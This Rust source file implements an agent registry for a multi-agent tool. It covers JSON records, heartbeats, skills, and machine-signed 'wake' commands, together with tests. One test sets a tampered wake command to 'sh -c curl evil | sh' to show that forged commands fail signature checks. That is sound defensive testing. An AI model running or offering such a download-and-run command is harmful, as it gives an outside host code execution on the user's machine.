//! The agent registry: one `agents/<name>.json` per agent, global across projects.
//!
//! Every change is a locked read-merge-write of one record, so a heartbeat racing with
//! `agent add` in another process never drops a field. Fields this binary does not know are
//! kept as they are. Every change is durable except a heartbeat's new `last_seen`, which
//! only records activity and is not synced (losing one to a power cut is harmless).

use std::path::Path;

use chrono::Duration;
use serde::{Deserialize, Serialize};

use crate::error::{Error, RegistryError, Result};
use crate::names::{self, NameKind};
use crate::secret::machine_key::MachineKey;
use crate::store::versioned::{self, Durability, Versioned};
use crate::store::{Collection, Document, Documents, Wait};
use crate::text::{self, LineField};
use crate::time::Timestamp;

pub const AGENT_SCHEMA: u32 = 1;
/// `last_seen` is refreshed at most this often, so hooks firing on every prompt do not write
/// on every prompt.
pub const HEARTBEAT_EVERY: Duration = Duration::minutes(1);

/// The contents of `agents/<name>.json`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AgentRecord {
    #[serde(default = "default_schema")]
    pub schema: u32,
    pub name: String,
    #[serde(default)]
    pub strengths: String,
    #[serde(default)]
    pub skills: Vec<String>,
    /// The headless command that wakes this agent, as an argv list.
    #[serde(default)]
    pub wake: Option<Vec<String>>,
    /// The machine the wake command was registered on, where it runs: on a store several
    /// machines share, only a process there starts it (SPEC section 16). None in a record
    /// written before hosts were recorded: it runs wherever the work is handed over.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub host: Option<String>,
    /// The signature, by the key of the machine that registered it, of the wake command,
    /// its host and the agent's name ([`AgentRecord::is_wake_signed_by`]): on a store several
    /// machines share, anyone holding its credentials can write this record, but only that
    /// machine can sign it, and a hub runs only the wake commands it signed (SPEC 16).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub wake_signature: Option<String>,
    /// The agent clients wired to this identity by `baton setup`.
    #[serde(default)]
    pub clients: Vec<String>,
    pub created_at: Timestamp,
    pub last_seen: Timestamp,
    /// Fields written by a newer baton: kept, never dropped.
    #[serde(flatten)]
    pub other: serde_json::Map<String, serde_json::Value>,
}

impl Versioned for AgentRecord {
    const SCHEMA: u32 = AGENT_SCHEMA;

    fn schema(&self) -> u32 {
        self.schema
    }
}

fn default_schema() -> u32 {
    AGENT_SCHEMA
}

impl AgentRecord {
    /// Sets the wake command, and the machine it runs on: this one, whose `key` signs it
    /// (SPEC section 16) and keeps the signature as the one that stands for this agent.
    pub fn set_wake(&mut self, wake: Vec<String>, key: &MachineKey) -> Result<()> {
        self.host = crate::process::this_host();
        self.wake = Some(wake);
        self.wake_signature = Some(key.sign_latest(&self.wake_subject(), &self.signed_wake())?);
        Ok(())
    }

    /// Removes the wake command, with its host and signature; `key`, this machine's where it
    /// has one, forgets the signature it made, so that no copy of the record written back
    /// brings the command back.
    pub fn remove_wake(&mut self, key: Option<&MachineKey>) -> Result<()> {
        self.wake = None;
        self.host = None;
        self.wake_signature = None;
        if let Some(key) = key {
            key.forget(&self.wake_subject())?;
        }
        Ok(())
    }

    /// Whether the wake command, as it stands with its host and the agent's name, was signed
    /// with `key`, and is the last one signed for this agent there: registered on the
    /// machine that holds the key, and not replaced or removed there since.
    pub fn is_wake_signed_by(&self, key: &MachineKey) -> bool {
        self.wake.is_some()
            && self.wake_signature.as_deref().is_some_and(|signature| {
                key.is_latest(&self.wake_subject(), &self.signed_wake(), signature)
            })
    }

    /// What the machine's ledger keeps this agent's wake signature under.
    fn wake_subject(&self) -> String {
        wake_subject(&self.name)
    }

    /// What a wake command's signature covers, in one unambiguous encoding.
    fn signed_wake(&self) -> Vec<u8> {
        let signed = ("baton wake command 1", &self.name, &self.host, &self.wake);
        // Strings and lists of strings always encode.
        serde_json::to_vec(&signed).unwrap_or_default()
    }

    pub fn new(name: &str, now: Timestamp) -> Self {
        AgentRecord {
            schema: AGENT_SCHEMA,
            name: name.to_string(),
            strengths: String::new(),
            skills: Vec::new(),
            wake: None,
            host: None,
            wake_signature: None,
            clients: Vec::new(),
            created_at: now,
            last_seen: now,
            other: serde_json::Map::new(),
        }
    }
}

/// What a machine's ledger keeps the wake signature of agent `name` under.
fn wake_subject(name: &str) -> String {
    format!("wake-{name}")
}

/// Forgets the wake command this machine (`key`) signed for `name`, which is gone.
pub fn forget_wake_signature(key: &MachineKey, name: &str) -> Result<()> {
    Ok(key.forget(&wake_subject(name))?)
}

/// The registry record of `name`, as the store keeps it.
fn document(name: &str) -> Document {
    Document::Agent(name.to_string())
}

/// Reads one record; `None` when the agent is not registered.
pub fn load(store: &dyn Documents, name: &str) -> Result<Option<AgentRecord>> {
    names::check(NameKind::Agent, name)?;
    Ok(versioned::read(store, &document(name))?)
}

/// The names of every registered agent, sorted.
pub fn names(store: &dyn Documents) -> Result<Vec<String>> {
    Ok(store.list_documents(Collection::Agents)?)
}

/// A registry record that could not be read, named.
#[derive(Debug)]
pub struct Unreadable {
    pub name: String,
    pub error: Error,
}

/// Every readable record; unreadable ones come back beside them, so one bad file hides
/// nobody else.
pub fn list(store: &dyn Documents) -> Result<(Vec<AgentRecord>, Vec<Unreadable>)> {
    let mut records = Vec::new();
    let mut problems = Vec::new();
    for name in names(store)? {
        match load(store, &name) {
            Ok(Some(record)) => records.push(record),
            Ok(None) => {}
            Err(error) => problems.push(Unreadable { name, error }),
        }
    }
    Ok((records, problems))
}

/// Fails with the list of known agents unless `name` is registered.
pub fn require(store: &dyn Documents, name: &str) -> Result<AgentRecord> {
    load(store, name)?.ok_or_else(|| Error::UnknownAgent {
        name: name.to_string(),
        known: names(store).unwrap_or_default(),
    })
}

/// A locked read-merge-write of one record. The closure gets the current record (or a
/// fresh one, and true); the record is written when it changed (a fresh one always is).
pub fn update<T>(
    store: &dyn Documents,
    name: &str,
    now: Timestamp,
    change: impl FnOnce(&mut AgentRecord, bool) -> Result<T>,
) -> Result<T> {
    names::check(NameKind::Agent, name)?;
    versioned::update(
        store,
        &document(name),
        |record: &mut Option<AgentRecord>| {
            let is_new = record.is_none();
            change(
                record.get_or_insert_with(|| AgentRecord::new(name, now)),
                is_new,
            )
        },
    )
}

/// Whether `last_seen` is old enough to be written again at `now`.
fn is_heartbeat_due(record: &AgentRecord, now: Timestamp) -> bool {
    record.last_seen.until(now) >= HEARTBEAT_EVERY
}

/// Records that `name` is active: registers it on first sight (durably, as any other
/// change) and refreshes `last_seen` at most once per [`HEARTBEAT_EVERY`], without syncing
/// ([`Durability::Unsynced`]): a command that comes after a minute's pause pays no fsync
/// for it. Cheap when nothing is due: one read, no lock. A record that does not parse is an
/// error, never replaced by a fresh one. When nothing was due, the record read says when
/// the agent joined (its `created_at`): what the agent's session knows without reading the
/// record again.
pub fn heartbeat(store: &dyn Documents, name: &str, now: Timestamp) -> Result<Option<Timestamp>> {
    heartbeat_read(store, name, now, None)
}

/// [`heartbeat`], given the text of the agent's record as just read (`Some(None)`: there
/// was none), which is then not read again unless the heartbeat is due.
pub fn heartbeat_read(
    store: &dyn Documents,
    name: &str,
    now: Timestamp,
    read: Option<Option<&[u8]>>,
) -> Result<Option<Timestamp>> {
    let record = match read {
        Some(text) => {
            names::check(NameKind::Agent, name)?;
            let origin = store.document_origin(&document(name));
            text.map(|text| versioned::decode::<AgentRecord>(&origin, text))
                .transpose()?
        }
        None => load(store, name)?,
    };
    if let Some(record) = record
        && !is_heartbeat_due(&record, now)
    {
        return Ok(Some(record.created_at));
    }
    // Read again under the lock: another process may have just written it, and what it
    // wrote (a wake command, say) is kept.
    versioned::update_with(
        store,
        &document(name),
        Wait::AsTheStoreDoes,
        |record: &mut Option<AgentRecord>| -> Result<((), Durability)> {
            match record {
                None => *record = Some(AgentRecord::new(name, now)),
                Some(record) if is_heartbeat_due(record, now) => {
                    record.last_seen = now;
                    return Ok(((), Durability::Unsynced));
                }
                Some(_) => {}
            }
            Ok(((), Durability::Durable))
        },
    )?;
    Ok(None)
}

/// What an agent says about itself: the fields anyone may set, from the CLI or over MCP.
/// The wake command is not among them: it runs programs, so only the CLI sets it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Profile {
    /// Replaces the strengths when given.
    pub strengths: Option<String>,
    /// Replaces the skills when given.
    pub skills: Option<Vec<String>>,
}

impl Profile {
    /// Writes the given fields into `record`, leaving the others as they are; refuses
    /// strengths over the size limit and skills that are not one line (SPEC section 10).
    pub fn apply(&self, record: &mut AgentRecord) -> Result<()> {
        if let Some(strengths) = &self.strengths {
            text::check_long("strengths", strengths)?;
            record.strengths = strengths.trim().to_string();
        }
        if let Some(skills) = &self.skills {
            for skill in skills {
                text::check_line(LineField::Skill, skill)?;
            }
            record.skills = normalize_skills(skills);
        }
        Ok(())
    }
}

/// What `agent add` does to an agent's wake command.
#[derive(Debug, Clone)]
pub enum WakeCommandChange {
    Keep,
    /// Sets it to this program and its arguments (`--wake -- CMD ARGS…`), signed with the
    /// key of this machine, where it will run.
    Set(Vec<String>, std::sync::Arc<MachineKey>),
    /// Removes it (`--no-wake-command`); this machine's key, where it has one, forgets its
    /// signature.
    Remove(Option<std::sync::Arc<MachineKey>>),
}

/// `agent add`: registers `name`, or changes its record: the `profile` fields given and
/// the wake command. The wake command is checked before anything is written: it must name
/// a program, on `PATH` or by an absolute path. The wake command runs programs, so only the
/// CLI offers this; over MCP an agent changes only its [`Profile`].
pub fn add(
    store: &dyn Documents,
    name: &str,
    now: Timestamp,
    profile: &Profile,
    wake: WakeCommandChange,
) -> Result<AgentRecord> {
    if let WakeCommandChange::Set(argv, _) = &wake {
        if argv.first().is_none_or(|program| program.trim().is_empty()) {
            return Err(RegistryError::WakeNeedsCommand.into());
        }
        check_wake_command(argv)?;
    }
    update(store, name, now, |record, _| {
        profile.apply(record)?;
        match wake {
            WakeCommandChange::Keep => {}
            WakeCommandChange::Set(argv, key) => record.set_wake(argv, &key)?,
            WakeCommandChange::Remove(key) => record.remove_wake(key.as_deref())?,
        }
        Ok(record.clone())
    })
}

/// Checks a wake command given to `agent add --wake`. Its program must be a name looked up
/// on `PATH` or an absolute path: a relative path would be looked up from wherever the
/// command that wakes the agent happens to run.
pub fn check_wake_command(argv: &[String]) -> Result<()> {
    let Some(program) = argv.first() else {
        return Ok(());
    };
    let path = Path::new(program);
    if program.contains('/') && !path.is_absolute() {
        let absolute = std::path::absolute(path).unwrap_or_else(|_| path.to_path_buf());
        return Err(RegistryError::RelativeWakeProgram {
            program: program.clone(),
            absolute,
        }
        .into());
    }
    Ok(())
}

/// Skill tags as stored and matched: trimmed, lowercase, no blanks, no repeats, in the order
/// given.
pub fn normalize_skills(skills: &[String]) -> Vec<String> {
    let mut tags: Vec<String> = Vec::new();
    for skill in skills {
        let tag = skill.trim().to_lowercase();
        if !tag.is_empty() && !tags.contains(&tag) {
            tags.push(tag);
        }
    }
    tags
}

/// Removes the record (under its lock; in the file store the lock file stays, as every
/// lock file does).
pub fn remove(store: &dyn Documents, name: &str) -> Result<()> {
    names::check(NameKind::Agent, name)?;
    match store.remove_document(&document(name))? {
        true => Ok(()),
        false => Err(Error::UnknownAgent {
            name: name.to_string(),
            known: names(store).unwrap_or_default(),
        }),
    }
}

#[cfg(test)]
mod tests {
    use std::fs;

    use super::*;
    use crate::error::Error;
    use crate::file::lock::LockPolicy;
    use crate::home::Home;
    use crate::store::StoreError;
    use crate::store::files::FileStore;

    fn store_at(root: &Path) -> FileStore {
        FileStore::new(
            Home::new(root.to_path_buf()),
            LockPolicy::silent(std::time::Duration::from_secs(5)),
        )
    }

    fn at(text: &str) -> Timestamp {
        text.parse().unwrap()
    }

    /// The key of the machine whose home is at `root`.
    fn key_at(root: &Path) -> std::sync::Arc<MachineKey> {
        let key = MachineKey::load_or_make(&Home::new(root.to_path_buf()).machine_key_file());
        std::sync::Arc::new(key.unwrap())
    }

    /// A wake program given by an absolute path on this system.
    const ABSOLUTE_CODEX: &str = if cfg!(windows) {
        r"C:\bin\codex.exe"
    } else {
        "/usr/bin/codex"
    };

    #[test]
    fn agent_add_checks_a_wake_command_before_writing_it() {
        let root = tempfile::tempdir().unwrap();
        let home = store_at(root.path());
        let now = at("2026-11-29T12:00:00Z");
        let argv = |words: &[&str]| words.iter().map(|word| word.to_string()).collect();
        let profile = Profile::default();
        let key = key_at(root.path());
        // (the change asked for, the wake command after it; None where it is refused)
        let cases: Vec<(WakeCommandChange, Option<Option<Vec<String>>>)> = vec![
            (WakeCommandChange::Set(argv(&[]), key.clone()), None),
            (WakeCommandChange::Set(argv(&[" "]), key.clone()), None),
            (
                WakeCommandChange::Set(argv(&["bin/codex", "exec"]), key.clone()),
                None,
            ),
            (
                WakeCommandChange::Set(argv(&["codex", "exec"]), key.clone()),
                Some(Some(argv(&["codex", "exec"]))),
            ),
            (
                WakeCommandChange::Keep,
                Some(Some(argv(&["codex", "exec"]))),
            ),
            (
                WakeCommandChange::Set(argv(&[ABSOLUTE_CODEX]), key.clone()),
                Some(Some(argv(&[ABSOLUTE_CODEX]))),
            ),
            (WakeCommandChange::Remove(Some(key.clone())), Some(None)),
        ];
        for (change, expected) in cases {
            let before = load(&home, "codex").unwrap().and_then(|record| record.wake);
            let added = add(&home, "codex", now, &profile, change.clone());
            let after = load(&home, "codex").unwrap().and_then(|record| record.wake);
            match expected {
                None => {
                    assert!(added.is_err(), "{change:?} is refused");
                    assert_eq!(after, before, "{change:?} writes nothing");
                }
                Some(wake) => {
                    assert_eq!(added.unwrap().wake, wake, "{change:?}");
                    assert_eq!(after, wake, "{change:?} is stored");
                }
            }
        }
    }

    #[test]
    fn a_wake_command_records_the_machine_it_was_registered_on_and_goes_with_it() {
        let root = tempfile::tempdir().unwrap();
        let home = store_at(root.path());
        let now = at("2026-11-29T12:00:00Z");
        let profile = Profile::default();
        let set = WakeCommandChange::Set(vec!["codex".into(), "exec".into()], key_at(root.path()));
        let added = add(&home, "codex", now, &profile, set).unwrap();
        assert!(added.host.is_some(), "this machine has a name");
        assert_eq!(added.host, crate::process::this_host());
        let kept = add(&home, "codex", now, &profile, WakeCommandChange::Keep).unwrap();
        assert_eq!(kept.host, added.host, "a profile change keeps it");
        let removed = add(
            &home,
            "codex",
            now,
            &profile,
            WakeCommandChange::Remove(None),
        )
        .unwrap();
        assert_eq!(
            (removed.wake, removed.host, removed.wake_signature),
            (None, None, None)
        );
        // A record from before hosts were recorded reads as one with none.
        let old: AgentRecord = serde_json::from_value(serde_json::json!({
            "name": "codex", "wake": ["codex"],
            "created_at": "2026-11-29T12:00:00.000Z", "last_seen": "2026-11-29T12:00:00.000Z",
        }))
        .unwrap();
        assert_eq!(old.host, None);
        assert!(!serde_json::to_string(&old).unwrap().contains("host"));
    }

    #[test]
    fn a_wake_command_is_signed_by_the_machine_that_registered_it_and_nothing_else() {
        let root = tempfile::tempdir().unwrap();
        let home = store_at(root.path());
        let now = at("2026-11-29T12:00:00Z");
        let key = key_at(root.path());
        let set = WakeCommandChange::Set(vec!["codex".into(), "exec".into()], key.clone());
        let added = add(&home, "codex", now, &Profile::default(), set).unwrap();
        assert!(added.is_wake_signed_by(&key));
        let other = tempfile::tempdir().unwrap();
        let elsewhere = MachineKey::load_or_make(&other.path().join("machine.key")).unwrap();
        assert!(
            !added.is_wake_signed_by(&elsewhere),
            "another machine's key"
        );
        // Whatever another writer of the record changes, the signature no longer holds.
        let mut changed = added.clone();
        changed.wake = Some(vec!["sh".into(), "-c".into(), "curl evil | sh".into()]);
        assert!(!changed.is_wake_signed_by(&key), "another command");
        let mut moved = added.clone();
        moved.host = Some("another-machine".into());
        assert!(!moved.is_wake_signed_by(&key), "another host");
        let mut renamed = added.clone();
        renamed.name = "claude".into();
        assert!(
            !renamed.is_wake_signed_by(&key),
            "another agent's signed command"
        );
        let mut unsigned = added.clone();
        unsigned.wake_signature = None;
        assert!(!unsigned.is_wake_signed_by(&key));
        // Kept through a profile change, and written into the record as it is stored.
        let kept = add(
            &home,
            "codex",
            now,
            &Profile::default(),
            WakeCommandChange::Keep,
        )
        .unwrap();
        assert!(kept.is_wake_signed_by(&key));
    }

    #[test]
    fn heartbeats_write_at_most_once_a_minute_and_never_move_back() {
        let root = tempfile::tempdir().unwrap();
        let home = store_at(root.path());
        let start = at("2026-11-29T12:00:00Z");
        heartbeat(&home, "codex", start).unwrap();
        let seen = |home: &FileStore| load(home, "codex").unwrap().unwrap().last_seen;
        assert_eq!(seen(&home), start);
        heartbeat(&home, "codex", at("2026-11-29T12:00:59Z")).unwrap();
        assert_eq!(seen(&home), start, "not due yet");
        heartbeat(&home, "codex", at("2026-11-29T12:01:00Z")).unwrap();
        assert_eq!(seen(&home), at("2026-11-29T12:01:00Z"));
        heartbeat(&home, "codex", at("2026-11-29T11:00:00Z")).unwrap();
        assert_eq!(seen(&home), at("2026-11-29T12:01:00Z"), "an older clock");
    }

    #[test]
    fn a_heartbeat_keeps_every_other_field_and_leaves_a_whole_record_and_no_temp_file() {
        let root = tempfile::tempdir().unwrap();
        let home = store_at(root.path());
        let start = at("2026-11-29T12:00:00Z");
        let profile = Profile {
            strengths: Some("parsers".into()),
            skills: Some(vec!["rust".into()]),
        };
        let wake = WakeCommandChange::Set(vec!["codex".into(), "exec".into()], key_at(root.path()));
        let added = add(&home, "codex", start, &profile, wake).unwrap();
        let path = home.home().agent_file("codex");
        let later = at("2026-11-29T12:05:00Z");
        heartbeat(&home, "codex", later).unwrap();
        let record = load(&home, "codex").unwrap().unwrap();
        assert_eq!(
            record,
            AgentRecord {
                last_seen: later,
                ..added.clone()
            }
        );
        // Written whole, as every save is: the same bytes a durable save of it gives.
        let text = fs::read(&path).unwrap();
        let what = crate::store::Stored::Document(Document::Agent("codex".into()));
        versioned::save(what, &path, &record).unwrap();
        assert_eq!(text, fs::read(&path).unwrap());
        assert!(!crate::file::atomic::temp_path(&path).exists());
        let names: Vec<_> = fs::read_dir(home.home().agents_dir())
            .unwrap()
            .map(|entry| entry.unwrap().file_name().into_string().unwrap())
            .filter(|name| !name.ends_with(".lock"))
            .collect();
        assert_eq!(names, ["codex.json"], "nothing else left in agents/");
    }

    #[test]
    fn a_record_that_does_not_parse_is_refused_by_name_and_left_alone() {
        let root = tempfile::tempdir().unwrap();
        let home = store_at(root.path());
        fs::create_dir_all(home.home().agents_dir()).unwrap();
        let path = home.home().agent_file("codex");
        fs::write(&path, b"{\"name\": \"codex\", \"stren").unwrap();
        let now = at("2026-11-29T12:00:00Z");
        for error in [
            heartbeat(&home, "codex", now).unwrap_err(),
            update(&home, "codex", now, |record, _| {
                record.strengths = "x".into();
                Ok(())
            })
            .unwrap_err(),
        ] {
            assert!(
                matches!(&error, Error::Store(StoreError::Corrupt { origin, .. }) if origin.path() == Some(&*path)),
                "{error}"
            );
            let shown = Path::new("agents").join("codex.json");
            assert!(
                error.to_string().contains(&*shown.to_string_lossy()),
                "{error}"
            );
        }
        assert_eq!(fs::read(&path).unwrap(), b"{\"name\": \"codex\", \"stren");
        let (records, problems) = list(&home).unwrap();
        assert!(records.is_empty());
        assert_eq!(problems.len(), 1);
    }

    #[test]
    fn fields_from_a_newer_baton_survive_a_change() {
        let root = tempfile::tempdir().unwrap();
        let home = store_at(root.path());
        fs::create_dir_all(home.home().agents_dir()).unwrap();
        fs::write(
            home.home().agent_file("gemini"),
            br#"{"name": "gemini", "created_at": "2026-11-01T00:00:00Z",
                "last_seen": "2026-11-01T00:00:00Z", "mood": "sunny"}"#,
        )
        .unwrap();
        let profile = Profile {
            strengths: Some("  docs ".into()),
            skills: Some(vec!["Rust".into(), " ".into(), "rust".into(), "go".into()]),
        };
        update(&home, "gemini", at("2026-11-29T12:00:00Z"), |record, _| {
            profile.apply(record)?;
            Ok(())
        })
        .unwrap();
        let record = load(&home, "gemini").unwrap().unwrap();
        assert_eq!(record.strengths, "docs");
        assert_eq!(record.skills, vec!["rust", "go"]);
        assert_eq!(record.other["mood"], "sunny");
        assert_eq!(record.created_at, at("2026-11-01T00:00:00Z"));
    }
}
